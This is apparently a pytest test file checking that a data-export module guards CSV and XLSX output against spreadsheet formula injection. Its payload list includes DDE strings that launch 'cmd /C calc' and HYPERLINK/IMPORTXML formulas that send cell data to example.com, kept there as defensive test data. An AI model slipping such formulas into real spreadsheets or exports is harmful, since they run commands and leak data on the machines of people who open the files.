"""No text of a case, and no header, ever becomes a formula in the program that opens the export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from .tables import cells, written

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = [
    *(f"{start}1+1" for start in STARTS),
    *(f"{lead}=1+1" for lead in (" ", "   ", "\ufeff", "\u00a0", "\u200b", " \ufeff ", "'", "''", "' ")),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '"=1+1',
    '",=1+1',
    "harmless\n=1+1",
    "+49 30 901820",
    "-5",
]  # fmt: skip
DANGEROUS = tuple(STARTS)
INVISIBLE = " \ufeff\u00a0\u200b"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_or_header_of_a_csv_starts_like_a_formula(payload: str) -> None:
    data = written("csv", ["id", payload], [[1, payload], [2, f"x{payload}"]])

    records = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    assert [len(record) for record in records] == [2, 2, 2]
    for record in records:
        assert not record[1].lstrip(INVISIBLE).startswith(DANGEROUS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_cell_and_header_of_a_workbook_is_a_text(payload: str) -> None:
    data = written("xlsx", ["id", payload], [[1, payload]], title=payload)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active

    assert [[cell.data_type for cell in row] for row in sheet.iter_rows()] == [["s", "s"], ["n", "s"]]
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
    assert b"<f" not in data


def test_a_dangerous_text_stays_a_text_when_a_person_edits_its_cell() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", ["=h"], [["=1+1"], ["plain"]]))).active

    assert [cell.quotePrefix for cell in sheet["A"]] == [True, True, False]


@pytest.mark.parametrize("key", ["csv", "xlsx", "json", "jsonl"])
def test_payloads_come_back_unchanged(key: str) -> None:
    rows = [[f"row {number}", payload] for number, payload in enumerate(PAYLOADS)]

    assert cells(written(key, ["id", "text"], rows), format=key) == rows


def test_numbers_are_not_guarded() -> None:
    assert written("csv", ["n"], [[-5], [-0.5]]).endswith(b"n\r\n-5\r\n-0.5\r\n")


def test_texts_of_numbers_are_guarded() -> None:
    assert written("csv", ["n"], [["-5"], ["+49 30"]]).endswith(b"n\r\n'-5\r\n'+49 30\r\n")


def test_the_guard_can_be_left_off_for_programs() -> None:
    assert written("csv", ["=h"], [["=1"]], guard=False).endswith(b"=h\r\n=1\r\n")
